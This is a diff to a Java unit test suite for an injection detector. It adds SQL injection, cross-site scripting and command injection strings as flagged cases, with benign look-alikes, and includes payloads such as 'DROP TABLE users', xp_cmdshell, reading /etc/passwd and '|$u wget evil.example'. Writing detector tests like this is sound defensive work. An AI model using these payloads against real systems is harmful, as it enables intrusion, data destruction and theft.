@@ -18,7 +18,7 @@ class InjectionDetectorsTest {
   class SqlInjection {
     @ParameterizedTest
     @ValueSource(strings = {
-      "' or 1=1--", "' OR '1'='1", "admin'--", "admin'#", "admin'/*", "' or ''='", "1 or 1=1",
+      "div(23,-2)", "lo_get(16400)", ", FIND_IN_SET('22', Category )", "' or 1=1--", "' OR '1'='1", "admin'--", "admin'#", "admin'/*", "' or ''='", "1 or 1=1",
       "1' and '1'='1", "-1 union select 1,2,3--", "1 UNION ALL SELECT NULL,NULL,NULL",
       "1/**/union/**/select/**/1,2", "1 /*!50000union*/ /*!50000select*/ 1,2", "1; drop table users",
       "'; DROP TABLE users; --", "1;shutdown--", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
@@ -74,6 +74,7 @@ class InjectionDetectorsTest {
       "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
       "<scr<script>ipt>alert(1)</script>", "\";alert(1);//", "<details open ontoggle=alert(1)>",
       "<IMG STYLE=\"x:expr/**/ession(alert(1))\">", "<span datasrc=#x datafld=b dataformatas=html>", "document /*x*/ . cookie", "alert(1)", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<f o r m action=x>",
+      "x=x:url(javascript", "\\xc2\\xbcscript\\xc2\\xbealert(1)\\xc2\\xbc/script\\xc2\\xbe", "style = background : url ( javascript : alert(1) )",
     })
     void attacks(String value) {
       flagged(Category.XSS, value);
@@ -89,6 +90,14 @@ class InjectionDetectorsTest {
     })
     void benign(String value) {
       clean(Category.XSS, value);
+    }
+
+    @Test
+    void parametersNamedAfterDomSinksAreFlaggedButNotJsonKeys() {
+      assertEquals("xss.dom-sink", Detectors.standard().inspect(Category.XSS, Source.COOKIE, "window.location", "941180-3").reason());
+      assertEquals("xss.dom-sink", Detectors.standard().inspect(Category.XSS, Source.FORM, "document.cookie", "x").reason());
+      assertNull(Detectors.standard().inspect(Category.XSS, Source.JSON, "location.href", "https://app.example.com/"));
+      assertNull(Detectors.standard().inspect(Category.XSS, Source.QUERY, "user.location", "Berlin"));
     }
 
     @Test
@@ -109,6 +118,7 @@ class InjectionDetectorsTest {
       "/usr/bin/id", "/bin/sh -c id", "& dir c:\\", "| type c:\\windows\\win.ini", "() { :; }; /bin/bash -c id",
       ";system('id')", "for %i in (*) do del %i", "$(($(id)))", "cat /etc/pa[s]swd", "sh -c whoami", "time sh -c whoami",
       "{cat,/etc/passwd}", "c{a,oun}t /etc/hosts", "\\ls", ";env", "IF /I a==b ECHO x", "$SHELL -c id", "|$u wget evil.example",
+      "~+", "~-1", "!-1!-2", "!!", "if/i a==b foo", "alias -p x=id", "alias +m a=b", "x&bcdboot /r file.txt", "; regedit /E c:\\x.reg HKEY_CURRENT_USER\\K",
     })
     void attacks(String value) {
       flagged(Category.COMMAND_INJECTION, value);
@@ -121,6 +131,7 @@ class InjectionDetectorsTest {
       "Hello ${user}, welcome", "${name}", "$5", "cost $3 & tax", "The cat sat on the mat", "Ping pong",
       "Name; ID number", "2 > 1", "a && b", "(see above)", "for each item in the list do this", "if exists, skip",
       "if a equals b, call me", "{placeholder}", "{\"a\":1,\"b\":2}", "~/Documents", "alias: Johnny",
+      "~", "~2", "Wow!!", "!1", "Great job!-1 point", "alias for the shared mailbox", "regedit is a Windows tool",
     })
     void benign(String value) {
       clean(Category.COMMAND_INJECTION, value);
